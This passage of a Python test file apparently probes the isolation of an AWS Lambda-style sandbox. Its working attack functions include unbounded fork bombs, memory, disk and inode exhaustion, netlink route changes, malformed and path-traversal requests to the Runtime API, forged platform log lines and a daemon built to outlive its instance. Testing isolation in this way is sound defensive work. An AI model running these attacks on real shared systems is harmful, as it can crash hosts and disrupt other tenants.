                            ("XDP", (44, socket.SOCK_RAW, 0)), ("key", (15, socket.SOCK_RAW, 2))]:
        try:
            socket.socket(*arguments).close()
            report.escape(f"{name} socket")
        except OSError as error:
            report.refused(f"{name}: {error.strerror}")


@attack
def change_network(event, report):
    """Own addresses, routes and filters are the platform's: changing them would be the way round the policy."""
    add_address = struct.pack("<IHHII", 40, 20, 0x0605, 1, 0) + struct.pack("<BBBBI", 2, 32, 0, 0, 1) + \
        struct.pack("<HH4s", 8, 2, socket.inet_aton("192.0.2.77")) + struct.pack("<HH4s", 8, 1, socket.inet_aton("192.0.2.77"))
    new_link = struct.pack("<IHHII", 32, 16, 0x0605, 2, 0) + struct.pack("<BBHiII", 0, 0, 0, 1, 0, 1)  # takes loopback down
    for name, message in [("add an address", add_address), ("take a link down", new_link)]:
        try:
            with socket.socket(16, socket.SOCK_RAW, 0) as link:
                link.settimeout(2)
                link.sendto(message, (0, 0))
                code = struct.unpack_from("<i", link.recv(4096), 16)[0]
            report.escape(name) if code == 0 else report.refused(f"{name}: {errno.errorcode.get(-code, code)}")
        except OSError as error:
            report.refused(f"{name}: {error.strerror}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        for name, option, value in [("SO_MARK", 36, 1), ("SO_BINDTODEVICE", 25, None), ("IP_TRANSPARENT", 19, 1)]:
            try:
                if value is None:
                    client.setsockopt(socket.SOL_SOCKET, option, b"ext0\0")
                else:
                    client.setsockopt(socket.SOL_IP if option == 19 else socket.SOL_SOCKET, option, value)
                report.escape(name)
            except OSError as error:
                report.refused(f"{name}: {error.strerror}")


# Exhaustion: whether the server and the neighbours go on is what the test looks at --------------------------------------------


@attack
def fork_bomb(event, report):
    """Doubles until refused, then keeps everything alive for a moment. More than `bound` processes is an escape."""
    bound, children = event.get("bound", 5000), []
    try:
        while len(children) < bound:
            pid = os.fork()
            if pid == 0:
                # No Python runs in the child: thousands of interpreters that wake up would measure the memory limit.
                libc.pause()
                os._exit(0)
            children.append(pid)
        report.escape(f"{len(children)} processes")
    except OSError as error:
        report.refused(f"after {len(children)} processes: {error.strerror}")
    for pid in children:
        os.kill(pid, 9)
    for pid in children:
        os.waitpid(pid, 0)


@attack
def fork_bomb_unbounded(event, report):
    """The classic, which never returns: only the function's timeout ends it, and must end all of it."""
    while True:
        try:
            os.fork()
        except OSError:
            pass


@attack
def thread_bomb(event, report):
    bound, threads, stop = event.get("bound", 5000), [], threading.Event()
    threading.stack_size(64 * 1024)
    try:
        while len(threads) < bound:
            thread = threading.Thread(target=stop.wait, daemon=True)
            thread.start()
            threads.append(thread)
        report.escape(f"{len(threads)} threads")
    except (RuntimeError, MemoryError) as error:
        report.refused(f"after {len(threads)} threads: {error}")
    stop.set()


@attack
def memory_bomb(event, report):
    kept, bound = [], event.get("bound_mb", 4096)
    while len(kept) < bound:
        kept.append(b"\xa5" * (1 << 20))
    report.escape(f"{len(kept)} MB")


@attack
def memory_bomb_in_children(event, report):
    """A limit for a process is no limit for its children: together they may not have more than one."""
    each, count = event.get("each_mb", 64), event.get("count", 14)
    read_end, write_end = os.pipe()
    children = []
    for _ in range(count):
        pid = os.fork()
        if pid == 0:
            kept = b"\xa5" * (each << 20)
            os.write(write_end, b"x")
            libc.pause()
            os._exit(len(kept) & 0)
        children.append(pid)
    alive, deadline = 0, time.monotonic() + event.get("seconds", 8)
    while alive < count and select.select([read_end], [], [], max(0.0, deadline - time.monotonic()))[0]:
        alive += len(os.read(read_end, 1))
    (report.escape if alive == count else report.refused)(f"{alive} of {count} processes of {each} MB lived")
    for pid in children:
        os.kill(pid, 9)
    for pid in children:
        os.waitpid(pid, 0)


@attack
def shared_memory_bomb(event, report):
    """Memory that belongs to no process: memfd, System V segments, /dev/shm, pipes."""
    kept, bound = [], event.get("bound_mb", 4096)
    chunk = b"\xa5" * (1 << 20)
    fd = os.memfd_create("attack")
    while len(kept) < bound:
        os.write(fd, chunk)
        kept.append(None)
    report.escape(f"{len(kept)} MB of memfd")


@attack
def fill_disks(event, report):
    """Every path that can be written, until it is full. More than `bound_mb` is an escape. What is made is removed again."""
    bound, chunk = event.get("bound_mb", 2048), b"\xa5" * (1 << 20)
    folders = {"/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/var/task", "/opt", os.getcwd(), os.environ.get("HOME", "/tmp")}
    with open("/proc/self/mountinfo") as file:
        folders |= {line.split()[4] for line in file}
    for folder in sorted(folders):
        path, written = os.path.join(folder, "attack-fill"), 0
        try:
            # Memory-backed folders count against the function's memory; fallocate claims blocks without touching a page twice.
            fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
        except OSError as error:
            report.refused(f"{folder}: {error.strerror}")
            continue
        try:
            while written < bound:
                written += 1 if os.write(fd, chunk) == len(chunk) else 0
            report.escape(f"{folder} took {written} MB")
        except OSError as error:
            report.refused(f"{folder} full after {written} MB: {error.strerror}")
        finally:
            os.close(fd)
            os.unlink(path)


@attack
def sparse_file(event, report):
    """A size far beyond the disk costs nothing; claiming the blocks must be refused."""
    fd = os.open("/tmp/attack-sparse", os.O_CREAT | os.O_RDWR, 0o600)
    try:
        os.posix_fallocate(fd, 0, 1 << 40)
        report.escape("a terabyte was claimed")
    except OSError as error:
        report.refused(f"fallocate: {error.strerror}")
    os.close(fd)
    os.unlink("/tmp/attack-sparse")


@attack
def exhaust_inodes(event, report):
    """Empty files use no blocks. More than `bound` of them is an escape."""
    bound, made, folder = event.get("bound", 1_000_000), 0, tempfile.mkdtemp(dir="/tmp")
    try:
        while made < bound:
            os.close(os.open(f"{folder}/{made}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
        report.escape(f"{made} files")
    except OSError as error:
        report.refused(f"after {made} files: {error.strerror}")
    for number in range(made):
        os.unlink(f"{folder}/{number}")
    os.rmdir(folder)


@attack
def exhaust_descriptors(event, report):
    """In this process, in its children, and by raising the limit."""
    bound, kept = event.get("bound", 20_000), []
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
        report.escape("the limit of descriptors can be raised")
    except (OSError, ValueError) as error:
        report.refused(f"limit stays {soft}/{hard}: {error}")
    try:
        while len(kept) < bound:
            kept.append(os.open("/dev/null", os.O_RDONLY))
        report.escape(f"{len(kept)} descriptors")
    except OSError as error:
        report.refused(f"after {len(kept)} descriptors: {error.strerror}")
    for fd in kept:
        os.close(fd)


@attack
def exhaust_sockets(event, report):
    """Connections to the own Runtime API, as many as can be had: the server must not run out of descriptors for others."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    kept, deadline = [], time.monotonic() + event.get("seconds", 5)
    try:
        while len(kept) < 5000 and time.monotonic() < deadline:
            client = socket.socket()
            client.settimeout(0.3)
            kept.append(client)
            client.connect((host, int(port)))
    except OSError as error:
        report.refused(f"after {len(kept)} connections: {error}")
    report.refused(f"{len(kept)} connections")
    for client in kept:
        client.close()


@attack
def abuse_runtime_api(event, report):
    """Malformed and endless requests to the own Runtime API; the server parses them outside the sandbox."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    base = b"POST /2018-06-01/runtime/invocation/not-mine/response HTTP/1.1\r\nHost: x\r\n"
    for name, data in [("garbage", os.urandom(4096)), ("no end of header", b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 100_000),
                       ("huge line", b"GET /" + b"a" * 1_000_000), ("huge length", base + b"Content-Length: 99999999999999999999\r\n\r\n"),
                       ("negative length", base + b"Content-Length: -1\r\n\r\n"), ("two lengths", base + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nab"),
                       ("bad chunk", base + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n"), ("zero bytes", b"\0" * 4096),
                       ("traversal", b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n"),
                       ("other's answer", base + b"Content-Length: 2\r\n\r\n{}"),
                       ("code for others", b"POST /2018-06-01/runtime/mayfly/code-cache HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\nab"),
                       ("others' code", b"GET /2018-06-01/runtime/mayfly/code-cache HTTP/1.1\r\nHost: x\r\n\r\n"),
                       ("a restore", b"GET /2018-06-01/runtime/restore/next HTTP/1.1\r\nHost: x\r\n\r\n"),
                       ("a restore's error", b"POST /2018-06-01/runtime/restore/error HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")]:
        try:
            with socket.create_connection((host, int(port)), 2) as client:
                client.settimeout(2)
                client.sendall(data)
                reply = client.recv(200)
            status = reply.split(b" ", 2)[1:2]
            if status and status[0].startswith(b"2"):
                report.escape(f"{name} was accepted: {reply[:80]!r}")
            else:
                report.refused(f"{name}: {reply[:40]!r}")
        except OSError as error:
            report.refused(f"{name}: {error}")


@attack
def log_flood(event, report):
    """Lines without end and one line without an end."""
    line = "x" * 1000 + "\n"
    for _ in range(event.get("lines", 50_000)):
        sys.stdout.write(line)
    sys.stdout.write("y" * event.get("long", 20_000_000))
    sys.stdout.flush()
    sys.stderr.write("\0\x1b]0;title\a\x1b[2J\r\n" * 1000)
    sys.stderr.flush()
    report.refused("written")


@attack
def forge_log_lines(event, report):
    """Lines that look like the platform's own; a test sees whether they can be told apart."""
    print("REPORT RequestId: 00000000-0000-0000-0000-000000000000\tDuration: 0.01 ms\tBilled Duration: 1 ms")
    print('{"level":"error","message":"forged"}', flush=True)
    report.refused("written")


@attack
def outlive(event, report):
    """A daemon that leaves the process group, closes everything and ignores signals, to go on after the instance has ended."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for number in range(1, 65):
            try:
                import signal
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.closerange(0, 1024)
        # The name by which a test on the host would find it.
        libc.prctl(15, event["name"].encode()[:15], 0, 0, 0)
        while True:
            time.sleep(1)
    os.wait()
    report.refused("left a process behind")


@attack
def burn_cpu(event, report):
    """All CPUs, from many processes, for some seconds: neighbours must still be served."""
    deadline = time.monotonic() + event.get("seconds", 4)
    children = []
    for _ in range(event.get("processes", 16)):
        pid = os.fork()
        if pid == 0:
            while time.monotonic() < deadline:
                pass
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    report.refused("burnt")


@attack
def raise_priority(event, report):
    for name, action in [("nice -20", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)),
                         ("real-time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))]:
        try:
            action()
            report.escape(name)
        except OSError as error:
            report.refused(f"{name}: {error.strerror}")
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
        report.escape("protected from the memory killer")
    except OSError as error:
        report.refused(f"oom_score_adj: {error.strerror}")
    try:
        resource.setrlimit(resource.RLIMIT_MEMLOCK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        report.escape("memory may be locked without bound")
    except (OSError, ValueError) as error:
        report.refused(f"memlock: {error}")


def handler(event, context):
    report = Report()
    ATTACKS[event["attack"]](event, report)
    return report.answer()
